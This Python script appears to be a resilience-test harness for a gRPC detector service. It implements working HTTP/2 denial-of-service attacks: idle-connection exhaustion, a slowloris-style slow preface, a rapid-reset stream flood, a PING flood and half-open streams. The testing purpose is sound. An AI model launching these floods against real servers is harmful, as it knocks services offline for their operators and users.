"""Those who take a server's connections without wanting an answer; a process of its own.

`attackers.py KIND TARGET SECONDS` prints, when the time is over, how many connections it made, and how many of them the
server has closed.
"""

import contextlib
import resource
import select
import socket
import struct
import sys
import time
from collections.abc import Callable

__all__ = ["KINDS"]

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS, PING, HEADERS, RST_STREAM = 4, 6, 1, 3
END_HEADERS = 4
RATE = 1000
"""Frames a second of a flood."""


def frame(kind: int, payload: bytes, *, stream: int = 0, flags: int = 0) -> bytes:
    """An HTTP/2 frame."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _field(name: str, value: str) -> bytes:
    """A header as HPACK has it without a table."""
    return bytes([0, len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def _call(stream: int, method: str) -> bytes:
    fields = {":method": "POST", ":scheme": "http", ":path": method, ":authority": "a", "te": "trailers"}
    fields["content-type"] = "application/grpc"
    block = b"".join(_field(name, value) for name, value in fields.items())
    return frame(HEADERS, block, stream=stream, flags=END_HEADERS)


def _connect(target: str, count: int) -> list[socket.socket]:
    host, _, port = target.rpartition(":")
    return [socket.create_connection((host, int(port)), timeout=10) for _ in range(count)]


def _send(connection: socket.socket, data: bytes) -> None:
    """What the server does not want any more is lost."""
    with contextlib.suppress(OSError):
        connection.settimeout(1)
        connection.sendall(data)


def _idle(target: str, ends: float) -> list[socket.socket]:
    """1,000 connections on which nothing is ever said."""
    return _connect(target, 1000)


def _slow(target: str, ends: float) -> list[socket.socket]:
    """100 connections whose greeting comes a byte a second."""
    connections = _connect(target, 100)
    for byte in PREFACE:
        if time.monotonic() > ends:
            break
        for connection in connections:
            _send(connection, bytes([byte]))
        time.sleep(1)
    return connections


def _flood(make: Callable[[int], bytes], target: str, ends: float) -> list[socket.socket]:
    connections = _connect(target, 1)
    _send(connections[0], PREFACE + frame(SETTINGS, b""))
    number = 0
    while time.monotonic() < ends:
        for _ in range(RATE // 50):
            _send(connections[0], make(number))
            number += 1
        with contextlib.suppress(OSError):
            connections[0].setblocking(False)
            if connections[0].recv(1 << 20) == b"":
                return connections  # hung up
        time.sleep(0.02)
    return connections


def _reset(target: str, ends: float) -> list[socket.socket]:
    """Calls that are reset as soon as they are begun."""

    def call(number: int) -> bytes:
        stream = 2 * number + 1
        reset = frame(RST_STREAM, struct.pack(">I", 8), stream=stream)
        return _call(stream, "/advsentry.v1.DetectorService/Detect") + reset

    return _flood(call, target, ends)


def _pings(target: str, ends: float) -> list[socket.socket]:
    """Pings without end."""
    return _flood(lambda number: frame(PING, struct.pack(">Q", number)), target, ends)


def _half_open(target: str, ends: float) -> list[socket.socket]:
    """50 connections of 10 streams each that are begun and never go on."""
    connections = _connect(target, 50)
    for connection in connections:
        calls = b"".join(_call(2 * i + 1, "/advsentry.v1.DetectorService/StreamDetect") for i in range(10))
        _send(connection, PREFACE + frame(SETTINGS, b"") + calls)
    return connections


KINDS = {"idle": _idle, "slow": _slow, "reset": _reset, "pings": _pings, "half_open": _half_open}


def _closed(connection: socket.socket) -> bool:
    """Whether the server has hung up."""
    try:
        connection.setblocking(False)
        while select.select([connection], [], [], 0)[0]:
            if connection.recv(1 << 16) == b"":
                return True
    except OSError:
        return True
    return False


def main() -> None:
    """Attacks until the time is over."""
    kind, target, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    ends = time.monotonic() + seconds
    connections = KINDS[kind](target, ends)
    time.sleep(max(0.0, ends - time.monotonic()))
    print(len(connections), sum(map(_closed, connections)))


if __name__ == "__main__":
    main()
